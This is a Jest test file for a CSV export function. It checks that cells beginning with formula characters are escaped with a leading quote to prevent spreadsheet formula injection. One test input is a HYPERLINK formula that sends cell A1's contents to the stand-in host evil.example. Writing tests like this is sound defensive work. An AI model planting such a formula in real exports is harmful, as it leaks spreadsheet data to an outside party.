import { toCsv } from './report-response';

describe('toCsv', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\tTab', "'\tTab"],
    ['\rReturn', `"'\rReturn"`],
    [';=1+1', ";'=1+1"],
    ['Sales,=1+1', `"Sales,'=1+1"`],
    ['a|@SUM(1)', `"a|'@SUM(1)"`],
    ['x\t+1', "x\t'+1"],
  ])(
    'should put a quote before a formula character when it begins the cell or follows a separator: %j',
    async (cell, written) => {
      await expect(toCsv([{ name: cell, n: 1 }], ['name', 'n'])).resolves.toBe(`name,n\r\n${written},1\r\n`);
    },
  );

  it('should leave other text and numbers as they are when they cannot start a formula', async () => {
    const rows = [
      { name: 'Sales = Ops', n: 0 },
      { name: 'A+B', n: 216 },
      { name: 'R; D', n: 1 },
    ];
    await expect(toCsv(rows, ['name', 'n'])).resolves.toBe('name,n\r\nSales = Ops,0\r\nA+B,216\r\nR; D,1\r\n');
  });
});
